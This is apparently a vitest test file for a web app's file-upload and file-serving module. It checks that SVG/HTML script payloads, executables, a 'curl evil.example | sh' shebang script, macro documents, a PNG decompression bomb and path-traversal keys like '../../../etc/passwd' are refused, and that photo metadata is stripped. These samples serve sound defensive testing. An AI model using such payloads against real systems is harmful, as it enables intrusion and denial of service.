import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { crc32, deflateRawSync, deflateSync } from "node:zlib";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import {
  canAccessFile,
  contentDisposition,
  deleteStoredFile,
  type FileKind,
  fileResponse,
  registerFileAccess,
  safeFileName,
  storeUpload,
} from "~/modules/files/files.server";
import { isSafeStorageKey, LocalDiskStorage } from "~/modules/files/storage.server";
import { loader as fileLoader } from "~/routes/files.$fileId";
import { db } from "~/utils/db.server";
import { resetEnv } from "~/utils/env.server";
import { createUser } from "../../prisma/factories";

const MB = 1024 * 1024;
let dataDir: string;
const saved = {
  DATA_DIR: process.env.DATA_DIR,
  UPLOADTHING_TOKEN: process.env.UPLOADTHING_TOKEN,
  SESSION_SECRET: process.env.SESSION_SECRET,
};

beforeAll(async () => {
  dataDir = await mkdtemp(path.join(tmpdir(), "vv-files-"));
  process.env.DATA_DIR = dataDir;
  delete process.env.UPLOADTHING_TOKEN;
  // DATABASE_URL points at the test database, and the configuration then wants a secret.
  process.env.SESSION_SECRET ??= "files-upload-test-secret-0123456789abcdef";
  resetEnv();
});

afterAll(async () => {
  for (const [key, value] of Object.entries(saved)) {
    if (value === undefined) delete process.env[key];
    else process.env[key] = value;
  }
  resetEnv();
  await rm(dataDir, { recursive: true, force: true });
});

// --- fixtures ------------------------------------------------------------------------------------

const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const pdfBytes = (size = 400) => {
  const head = Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n");
  const tail = Buffer.from("\n%%EOF\n");
  return Buffer.concat([head, Buffer.alloc(Math.max(0, size - head.length - tail.length), 0x20), tail]);
};
const image = (format: "png" | "jpeg" | "webp", width = 40, height = 20) =>
  sharp({ create: { width, height, channels: 3, background: "#c0392b" } }).toFormat(format).toBuffer();

/** A photo as a phone makes it: EXIF with GPS position, owner name and a rotation. */
const photoWithGps = (format: "jpeg" | "png" | "webp" = "jpeg") =>
  sharp({ create: { width: 40, height: 20, channels: 3, background: "#2980b9" } })
    .withExif({
      IFD0: { Artist: "Jan de Leerling", Make: "PhoneCo" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "51/1 22/1 3000/100", GPSLongitudeRef: "E", GPSLongitude: "6/1 10/1 0/1" },
    })
    .withMetadata({ orientation: 6 })
    .toFormat(format)
    .toBuffer();

/** A PNG whose header claims 100,000 × 100,000 pixels: tiny on disk, 40 GB once decoded. */
function pixelBomb(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(100_000, 0);
  ihdr.writeUInt32BE(100_000, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from(PNG_SIGNATURE),
    chunk("IHDR", ihdr),
    chunk("IDAT", deflateSync(Buffer.alloc(1000))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** The smallest ZIP that reads as a .docx, optionally with macros. */
function docx(extra: string[] = []): Buffer {
  const names = ["[Content_Types].xml", "_rels/.rels", "word/document.xml", ...extra];
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const name of names) {
    const body = deflateRawSync(Buffer.from("<x/>"));
    const n = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt16LE(n.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt16LE(n.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, n, body);
    centrals.push(central, n);
    offset += 30 + n.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(names.length, 8);
  end.writeUInt16LE(names.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const OWNER = { ownerType: "TestOwner", ownerId: "owner-1" };

function upload(bytes: Uint8Array, name: string, type: string, kind: FileKind, locale?: string, uploadedById: string | null = null) {
  return storeUpload({ file: new File([new Uint8Array(bytes)], name, { type }), kind, ...OWNER, uploadedById }, locale);
}

async function uploadedFiles(): Promise<string[]> {
  const root = path.join(dataDir, "uploads");
  try {
    const entries = await readdir(root, { recursive: true, withFileTypes: true });
    return entries.filter((e) => e.isFile()).map((e) => path.relative(root, path.join(e.parentPath, e.name)));
  } catch {
    return [];
  }
}

async function storedState() {
  return {
    rows: await db.storedFile.count(),
    audits: await db.auditLog.count({ where: { action: "file.store" } }),
    files: (await uploadedFiles()).sort(),
  };
}

/** Runs an upload that must be refused for `reason`, and checks that nothing at all was stored. */
async function expectRefused(run: () => ReturnType<typeof storeUpload>, reason: string) {
  const before = await storedState();
  const result = await run();
  expect(result).toMatchObject({ ok: false, reason });
  expect(result.ok === false && result.error.length).toBeGreaterThan(10);
  expect(await storedState()).toEqual(before);
  return result.ok ? "" : result.error;
}

async function readStoredBytes(storageKey: string) {
  return readFile(path.join(dataDir, "uploads", storageKey));
}

async function bodyOf(response: Response) {
  return Buffer.from(await response.arrayBuffer());
}

// --- refusals ------------------------------------------------------------------------------------

describe("refused uploads store nothing and say why", () => {
  it("a PDF posing as a PNG (lying name and claimed type)", async () => {
    const error = await expectRefused(() => upload(pdfBytes(), "logo.png", "image/png", "LOGO"), "not-allowed");
    expect(error).toBe("Dit soort bestand kan hier niet worden geüpload. Toegestaan: PNG, JPEG, WebP.");
  });

  it("text posing as a PDF", async () => {
    await expectRefused(() => upload(Buffer.from("Beste jury,\nhier is ons werk."), "verslag.pdf", "application/pdf", "SUBMISSION"), "unknown");
  });

  it("an SVG, named and typed as one", async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>');
    const error = await expectRefused(() => upload(svg, "logo.svg", "image/svg+xml", "LOGO"), "svg");
    expect(error).toContain("SVG-bestanden worden om veiligheidsredenen niet geaccepteerd");
  });

  it("an SVG disguised as a PNG", async () => {
    const svg = Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    await expectRefused(() => upload(svg, "logo.png", "image/png", "LOGO"), "svg");
    await expectRefused(() => upload(svg, "scan.pdf", "application/pdf", "DOCUMENT"), "svg");
  });

  it("HTML, also when it claims to be a PDF", async () => {
    const html = Buffer.from("<!DOCTYPE html><html><script>fetch('/account')</script></html>");
    await expectRefused(() => upload(html, "cv.pdf", "application/pdf", "DOCUMENT"), "html");
    await expectRefused(() => upload(html, "page.html", "text/html", "SUBMISSION"), "html");
  });

  it.each([
    ["ELF", Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...Array(56).fill(0)]), "executable"],
    ["Windows PE", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(126), Buffer.from("PE\0\0")]), "executable"],
    ["shebang script", Buffer.from("#!/bin/bash\ncurl evil.example | sh\n"), "script"],
  ])("an executable: %s, named as a photo", async (_name, bytes, reason) => {
    await expectRefused(() => upload(bytes, "vakantie.jpg", "image/jpeg", "PHOTO"), reason);
  });

  it("a document with macros", async () => {
    await expectRefused(
      () => upload(docx(["word/vbaProject.bin"]), "opdracht.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "DOCUMENT"),
      "macro",
    );
  });

  it("a video (teams share a link instead)", async () => {
    const mp4 = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from("ftypisom"), Buffer.alloc(500)]);
    const error = await expectRefused(() => upload(mp4, "pitch.mp4", "video/mp4", "SUBMISSION"), "video");
    expect(error).toContain("deel de link");
  });

  it("too large for its kind, checked per kind", async () => {
    const threeMb = pdfBytes(3 * MB);
    const error = await expectRefused(() => upload(threeMb, "logo.png", "image/png", "LOGO"), "too-large");
    expect(error).toBe("Het bestand is te groot (3 MB). Het maximum is 2 MB.");
    const justOver = await expectRefused(() => upload(pdfBytes(10 * MB + 1), "foto.jpg", "image/jpeg", "PHOTO"), "too-large");
    expect(justOver).toBe("Het bestand is te groot (10,1 MB). Het maximum is 10 MB.");
    await expectRefused(() => upload(pdfBytes(20 * MB + 1), "werk.pdf", "application/pdf", "SUBMISSION"), "too-large");
    // The same 3 MB is fine as a document.
    const accepted = await upload(threeMb, "bijlage.pdf", "application/pdf", "DOCUMENT");
    expect(accepted.ok).toBe(true);
  });

  it("an empty file", async () => {
    const error = await expectRefused(() => upload(new Uint8Array(), "leeg.pdf", "application/pdf", "DOCUMENT"), "empty");
    expect(error).toBe("Het bestand is leeg. Kies een ander bestand.");
  });

  it("a damaged image", async () => {
    const broken = Buffer.concat([Buffer.from(PNG_SIGNATURE), Buffer.from("not really a png at all")]);
    await expectRefused(() => upload(broken, "logo.png", "image/png", "LOGO"), "image-invalid");
    const truncated = (await image("jpeg", 400, 300)).subarray(0, 300);
    await expectRefused(() => upload(truncated, "foto.jpg", "image/jpeg", "PHOTO"), "image-invalid");
  });

  it("a decompression bomb, before decoding it", async () => {
    const bomb = pixelBomb();
    expect(bomb.length).toBeLessThan(2000);
    const error = await expectRefused(() => upload(bomb, "logo.png", "image/png", "LOGO"), "image-too-many-pixels");
    expect(error).toContain("16 megapixel");
  });

  it("in English when the user chose English", async () => {
    const svg = Buffer.from("<svg/>");
    const error = await expectRefused(() => upload(svg, "logo.png", "image/png", "LOGO", "en"), "svg");
    expect(error).toBe("SVG files are not accepted, for security reasons. Allowed: PNG, JPEG, WebP.");
    const large = await expectRefused(() => upload(pdfBytes(2.5 * MB), "x.pdf", "application/pdf", "LOGO", "en"), "too-large");
    expect(large).toBe("The file is too large (2.5 MB). The maximum is 2 MB.");
    // Dutch writes the decimal comma.
    const dutch = await expectRefused(() => upload(pdfBytes(2.5 * MB), "x.pdf", "application/pdf", "LOGO"), "too-large");
    expect(dutch).toContain("(2,5 MB)");
  });

  it("refuses to work with an unknown kind (a programming error, not user input)", async () => {
    await expect(upload(pdfBytes(), "x.pdf", "application/pdf", "AVATAR" as FileKind)).rejects.toThrow(/Unknown file kind/);
  });
});

// --- images ----------------------------------------------------------------------------------------

describe("photos lose their EXIF and GPS data", () => {
  it.each(["jpeg", "png", "webp"] as const)("%s: stored without metadata, turned upright", async (format) => {
    const original = await photoWithGps(format);
    const before = await sharp(original).metadata();
    expect(before.exif).toBeDefined();
    expect(before.orientation).toBe(6);
    expect(original.includes("Jan de Leerling")).toBe(true);

    const result = await upload(original, `IMG_0042.${format}`, `image/${format}`, "PHOTO");
    if (!result.ok) throw new Error(result.error);
    const stored = await readStoredBytes(result.file.storageKey);
    const after = await sharp(stored).metadata();
    expect(after.format).toBe(format);
    expect(after.exif).toBeUndefined();
    expect(after.xmp).toBeUndefined();
    expect(after.iptc).toBeUndefined();
    expect(after.orientation).toBeUndefined();
    expect(stored.includes("Jan de Leerling")).toBe(false);
    expect(stored.includes("PhoneCo")).toBe(false);
    // The EXIF rotation was applied to the pixels before the tag was dropped.
    expect([after.width, after.height]).toEqual([20, 40]);
    expect(result.file.size).toBe(stored.length);
    expect(result.file.contentType).toBe(`image/${format}`);
  });

  it("applies to images in any kind of upload, not only photos", async () => {
    const result = await upload(await photoWithGps(), "scan.pdf", "application/pdf", "SUBMISSION");
    if (!result.ok) throw new Error(result.error);
    expect(result.file.contentType).toBe("image/jpeg");
    expect(result.file.fileName).toBe("scan.jpg");
    expect((await sharp(await readStoredBytes(result.file.storageKey)).metadata()).exif).toBeUndefined();
  });

  it("drops bytes hidden after the image", async () => {
    const png = Buffer.concat([await image("png"), Buffer.from("<script>alert(1)</script>")]);
    const result = await upload(png, "logo.png", "image/png", "LOGO");
    if (!result.ok) throw new Error(result.error);
    expect((await readStoredBytes(result.file.storageKey)).includes("<script>")).toBe(false);
  });
});

// --- storing and serving ---------------------------------------------------------------------------

describe("local storage", () => {
  it("stores a document on disk with a row and an audit entry, and serves it back", async () => {
    const user = await createUser(db);
    const pdf = pdfBytes(200_000); // several chunks of the file stream
    const result = await upload(pdf, "Offerte café “2026”.pdf", "application/octet-stream", "DOCUMENT", "nl", user.id);
    if (!result.ok) throw new Error(result.error);
    const { file } = result;
    expect(file).toMatchObject({
      kind: "DOCUMENT",
      storage: "LOCAL",
      fileName: "Offerte café “2026”.pdf",
      contentType: "application/pdf",
      size: pdf.length,
      ownerType: "TestOwner",
      ownerId: "owner-1",
      uploadedById: user.id,
      deletedAt: null,
    });
    expect(file.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(await readStoredBytes(file.storageKey)).toEqual(pdf);

    const entry = await db.auditLog.findFirst({ where: { action: "file.store", entityId: file.id } });
    expect(entry).toMatchObject({ actorId: user.id, entityType: "StoredFile" });
    expect(entry?.after).toMatchObject({ kind: "DOCUMENT", contentType: "application/pdf", storage: "LOCAL" });

    const response = await fileResponse(file);
    expect(response.status).toBe(200);
    expect(await bodyOf(response)).toEqual(pdf);
    expect(Object.fromEntries(response.headers)).toMatchObject({
      "content-type": "application/pdf",
      "content-length": String(pdf.length),
      "content-disposition": `inline; filename="Offerte cafe _2026_.pdf"; filename*=UTF-8''Offerte%20caf%C3%A9%20%E2%80%9C2026%E2%80%9D.pdf`,
      "x-content-type-options": "nosniff",
      "cache-control": "private, no-cache",
      etag: `"${file.sha256}"`,
      "cross-origin-resource-policy": "same-origin",
    });
    // Inline PDFs: no `sandbox`, which built-in PDF viewers may refuse; still nothing loads.
    expect(response.headers.get("content-security-policy")).toMatch(/^default-src 'none'; /);
    expect(response.headers.get("content-security-policy")).not.toContain("sandbox");
    const asDownload = await fileResponse(file, { download: true });
    expect(asDownload.headers.get("content-security-policy")).toBe("default-src 'none'; sandbox; frame-ancestors 'self'");
  });

  it("serves images inline in a sandbox, other documents and downloads as attachments", async () => {
    const png = await upload(await image("png"), "logo.png", "image/png", "LOGO");
    const word = await upload(docx(), "plan.docx", "application/msword", "DOCUMENT");
    if (!png.ok || !word.ok) throw new Error("upload failed");

    const inline = await fileResponse(png.file);
    expect(inline.headers.get("content-type")).toBe("image/png");
    expect(inline.headers.get("content-disposition")).toBe(`inline; filename="logo.png"; filename*=UTF-8''logo.png`);
    expect(inline.headers.get("content-security-policy")).toBe("default-src 'none'; sandbox; frame-ancestors 'self'");

    const download = await fileResponse(png.file, { download: true });
    expect(download.headers.get("content-disposition")).toMatch(/^attachment; /);

    const attachment = await fileResponse(word.file);
    expect(attachment.headers.get("content-type")).toBe(
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    );
    expect(attachment.headers.get("content-disposition")).toBe(`attachment; filename="plan.docx"; filename*=UTF-8''plan.docx`);
    expect(attachment.headers.get("content-security-policy")).toContain("sandbox");
    expect(await bodyOf(attachment)).toEqual(docx());

    const unchanged = await fileResponse(word.file, { ifNoneMatch: `"${word.file.sha256}"` });
    expect(unchanged.status).toBe(304);
    expect(unchanged.body).toBeNull();

    const head = await fileResponse(word.file, { headOnly: true });
    expect(head.status).toBe(200);
    expect(head.body).toBeNull();
    expect(head.headers.get("content-length")).toBe(String(word.file.size));
    expect(head.headers.get("x-content-type-options")).toBe("nosniff");
  });

  it("removes the stored bytes when the database write fails", async () => {
    const before = await storedState();
    // The audit entry's actor must exist: this one does not, so the transaction fails.
    await expect(upload(pdfBytes(), "x.pdf", "application/pdf", "DOCUMENT", "nl", "no-such-user")).rejects.toThrow();
    expect(await storedState()).toEqual(before);
  });

  it("deletes: row marked, audit entry, bytes gone, no longer served", async () => {
    const result = await upload(pdfBytes(), "weg.pdf", "application/pdf", "DOCUMENT");
    if (!result.ok) throw new Error(result.error);
    const { file } = result;
    expect(await deleteStoredFile({ fileId: file.id, actorId: null })).toBe(true);
    expect((await db.storedFile.findUniqueOrThrow({ where: { id: file.id } })).deletedAt).toBeInstanceOf(Date);
    expect(await db.auditLog.count({ where: { action: "file.delete", entityId: file.id } })).toBe(1);
    await expect(readStoredBytes(file.storageKey)).rejects.toThrow(/ENOENT/);
    expect(await deleteStoredFile({ fileId: file.id, actorId: null })).toBe(false);
  });

  it("answers 404 when the bytes are missing from storage", async () => {
    const result = await upload(pdfBytes(), "x.pdf", "application/pdf", "DOCUMENT");
    if (!result.ok) throw new Error(result.error);
    await rm(path.join(dataDir, "uploads", result.file.storageKey));
    const logged = vi.spyOn(console, "error").mockImplementation(() => undefined);
    const response = await fileResponse(result.file);
    expect(response.status).toBe(404);
    expect(logged).toHaveBeenCalledWith(expect.stringContaining(`file ${result.file.id} are missing`));
    logged.mockRestore();
  });
});

describe("file names and storage keys", () => {
  it("keys are random and never taken from the uploaded name", async () => {
    const result = await upload(pdfBytes(), "../../../etc/passwd", "application/pdf", "DOCUMENT");
    if (!result.ok) throw new Error(result.error);
    expect(result.file.fileName).toBe("passwd.pdf");
    expect(result.file.storageKey).toMatch(/^[0-9a-f]{2}\/[0-9a-f-]{36}\.pdf$/);
    expect(isSafeStorageKey(result.file.storageKey)).toBe(true);
  });

  it("names keep the real extension and lose folders and direction tricks", () => {
    expect(safeFileName("C:\\fakepath\\photo.exe", "jpg", "PHOTO")).toBe("photo.jpg");
    expect(safeFileName("invoice\u202Efdp.exe", "pdf", "DOCUMENT")).toBe("invoicefdp.pdf");
    expect(safeFileName("...", "png", "LOGO")).toBe("logo.png");
    expect(safeFileName("", "pdf", "SUBMISSION")).toBe("submission.pdf");
    expect(safeFileName("a".repeat(500) + ".pdf", "pdf", "DOCUMENT")).toHaveLength(124);
  });

  it("the header encodes any name safely", () => {
    expect(contentDisposition("attachment", 'a"b\\c;d%e.pdf')).toBe(
      `attachment; filename="a_b_c_d_e.pdf"; filename*=UTF-8''a%22b%5Cc%3Bd%25e.pdf`,
    );
    expect(contentDisposition("inline", "werk (1)'s.pdf")).toBe(
      `inline; filename="werk (1)'s.pdf"; filename*=UTF-8''werk%20%281%29%27s.pdf`,
    );
  });

  it.each([
    "../escape.pdf",
    "a/../../escape.pdf",
    "/etc/passwd",
    "..",
    ".hidden",
    "a\\..\\b",
    "a//b",
    "a/./b",
    "a/b/",
    "a\0b",
    "%2e%2e/x",
  ])("local storage refuses the key %j and writes nothing", async (key) => {
    const storage = new LocalDiskStorage(path.join(dataDir, "uploads"));
    expect(isSafeStorageKey(key)).toBe(false);
    await expect(storage.put(key, Buffer.from("x"), "application/pdf")).rejects.toThrow(/Unsafe storage key/);
    await expect(storage.get(key)).rejects.toThrow(/Unsafe storage key/);
    await expect(storage.delete(key)).rejects.toThrow(/Unsafe storage key/);
    expect((await uploadedFiles()).some((f) => f.includes("escape") || f.includes("hidden"))).toBe(false);
  });
});

// --- access ----------------------------------------------------------------------------------------

describe("access and the serving route", () => {
  const args = (fileId: string, init?: RequestInit) => ({
    request: new Request(`http://localhost/files/${fileId}`, init),
    params: { fileId },
    context: {},
  });
  const status = async (promise: Promise<Response>) => {
    try {
      return (await promise).status;
    } catch (thrown) {
      if (thrown instanceof Response) return thrown.status;
      throw thrown;
    }
  };

  it("denies unknown owner types, deleted files and failing checks", async () => {
    const file = { id: "f1", ownerType: "Nobody", ownerId: "x", deletedAt: null };
    expect(await canAccessFile("u1", file)).toBe(false);
    const unregister = registerFileAccess("Nobody", async () => {
      throw new Error("database down");
    });
    const logged = vi.spyOn(console, "error").mockImplementation(() => undefined);
    expect(await canAccessFile("u1", file)).toBe(false);
    expect(logged).toHaveBeenCalledOnce();
    logged.mockRestore();
    unregister();
    const allowAll = registerFileAccess("Nobody", async () => true);
    expect(await canAccessFile(null, file)).toBe(true);
    expect(await canAccessFile(null, { ...file, deletedAt: new Date() })).toBe(false);
    allowAll();
  });

  it("serves a file only after the owner's check, and 404s alike for missing and forbidden", async () => {
    const visible = await storeUpload({
      file: new File([pdfBytes()], "open.pdf", { type: "application/pdf" }),
      kind: "DOCUMENT",
      ownerType: "RouteOwner",
      ownerId: "public",
      uploadedById: null,
    });
    const hidden = await storeUpload({
      file: new File([pdfBytes()], "secret.pdf", { type: "application/pdf" }),
      kind: "DOCUMENT",
      ownerType: "RouteOwner",
      ownerId: "private",
      uploadedById: null,
    });
    if (!visible.ok || !hidden.ok) throw new Error("upload failed");

    // Nothing registered yet: nobody may read.
    expect(await status(fileLoader(args(visible.file.id)))).toBe(404);

    const seen: (string | null)[] = [];
    const unregister = registerFileAccess("RouteOwner", async (userId, ownerId) => {
      seen.push(userId);
      return ownerId === "public";
    });
    try {
      const response = await fileLoader(args(visible.file.id));
      expect(response.status).toBe(200);
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      expect(response.headers.get("content-disposition")).toMatch(/^inline; filename="open.pdf"/);
      expect(await bodyOf(response)).toEqual(pdfBytes());
      expect(seen).toEqual([null]); // not signed in

      const asDownload = await fileLoader({
        ...args(visible.file.id),
        request: new Request(`http://localhost/files/${visible.file.id}?download`),
      });
      expect(asDownload.headers.get("content-disposition")).toMatch(/^attachment;/);
      const head = await fileLoader({
        ...args(visible.file.id),
        request: new Request(`http://localhost/files/${visible.file.id}`, { method: "HEAD" }),
      });
      expect(head.status).toBe(200);
      expect(head.body).toBeNull();

      expect(await status(fileLoader(args(hidden.file.id)))).toBe(404);
      expect(await status(fileLoader(args("doesnotexist0000000000000")))).toBe(404);
      expect(await status(fileLoader(args("../../etc/passwd")))).toBe(404);

      await deleteStoredFile({ fileId: visible.file.id, actorId: null });
      expect(await status(fileLoader(args(visible.file.id)))).toBe(404);
    } finally {
      unregister();
    }
  });
});
